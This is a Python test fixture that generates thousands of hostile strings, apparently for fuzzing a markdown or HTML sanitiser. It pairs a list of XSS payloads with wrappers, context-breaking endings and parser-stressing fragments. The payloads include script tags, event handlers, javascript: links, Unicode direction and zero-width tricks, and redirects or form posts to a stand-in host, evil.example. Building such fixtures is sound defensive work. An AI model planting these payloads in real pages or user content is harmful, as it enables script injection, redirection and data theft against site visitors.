"""Texts by which somebody tries to run a script, to leave the place of her words, or to make a reader work without end."""

import json
import os
from itertools import product
from pathlib import Path

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt/x>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=//evil.example><input name=csrf_token></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<p style=position:fixed;inset:0>",
    "<h1>Somebody else’s heading</h1>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    '[x](https://e.example/" onmouseover=alert(1) x=")',
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    '![x](x "onerror=alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "https://e.example/'><script>alert(1)</script>",
    "{{ config }}{% for x in [1] %}{{ self }}{% endfor %}",
    "%(name)s ${7*7} #{7*7}",
    "\u202eevil\u202c \u2066x\u2069 \u200f",
    "\ufeff\u061c\x0b\x1b[31m\x7f\x85",
    "a" + "\u0300" * 200,
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") * 50,
    "\u2028\u2029<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<x onclick=alert(1) autofocus tabindex=1 onfocus=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<object data=javascript:alert(1)><embed src=javascript:alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
)
WRAPPERS = ("{}", "> {}", "- {}", "**{}**", "`{}`", "```\n{}\n```", "# {}", "x\n{}\ny", "@{}")
BOMBS = (
    "[",
    "![",
    ">",
    "> - ",
    "*a",
    "**a_b",
    "_a ",
    "`",
    "- ",
    "<",
    "&#x",
    "[a](",
    "[a][a]",
    "http://a.b/(",
    "a@",
    "((",
    "|a",
    "~",
)
# What closes the places in which words stand: an attribute, a field, a title, a comment, a script.
ENDS = ("", '">', "'>", "</textarea>", "</title></script>", "--></style>", "]]>", "\\\u2028")


def hostile_texts() -> list[str]:
    """More than 3,000 of them; with CAREPAGES_HOSTILE, the path of a JSON list, those of others too."""
    own = [wrapper.format(end + payload) for payload, wrapper, end in product(PAYLOADS, WRAPPERS, ENDS)]
    others = os.environ.get("CAREPAGES_HOSTILE")
    return own + (json.loads(Path(others).read_text()) if others else [])
